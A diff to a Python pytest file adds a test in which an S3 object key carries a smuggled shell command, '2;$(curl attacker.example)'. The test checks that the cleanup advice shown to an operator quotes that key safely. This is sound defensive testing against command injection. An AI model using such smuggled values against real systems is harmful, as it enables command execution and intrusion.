@@ -1,5 +1,7 @@
 """The record of a publication, where the network is lost while it is written."""
 
+import io
+import shlex
 from contextlib import nullcontext
 from types import SimpleNamespace
 from typing import Any, NoReturn
@@ -7,7 +9,8 @@ from typing import Any, NoReturn
 import pytest
 from botocore.exceptions import ReadTimeoutError
 
-from ops.frontend.publication import Publication, is_record, key_of, record
+from ops.errors import FailedError
+from ops.frontend.publication import Publication, is_record, key_of, read_publications, record
 from tests.support.aws import aws_of
 from tests.support.fake_clients import client_error
 from tests.support.fakes import NOW
@@ -35,3 +38,16 @@ def test_a_page_of_the_product_is_no_record() -> None:
     record_key = key_of("20261101T090000000Z-ab12")
     pages = ("data.json", f"app/{record_key}", record_key.removesuffix("json") + "txt")
     assert [key for key in (record_key, *pages) if is_record(key)] == [record_key]
+
+
+def test_the_name_of_what_is_no_record_is_a_word_in_the_advice() -> None:
+    """Whoever may write to the bucket chooses it, and an operator copies the command."""
+    key = key_of("2;$(curl attacker.example)")
+    pages = SimpleNamespace(paginate=lambda **_asked: [{"Contents": [{"Key": key}]}])
+    s3 = SimpleNamespace(get_paginator=lambda _name: pages, get_object=lambda **_asked: {"Body": io.BytesIO(b"{}")})
+
+    with pytest.raises(FailedError) as failed:
+        read_publications(aws_of(s3=s3), "pages")
+
+    (advice,) = failed.value.advice
+    assert shlex.split(advice.partition("aws ")[2]) == ["s3", "rm", f"s3://pages/{key}"]
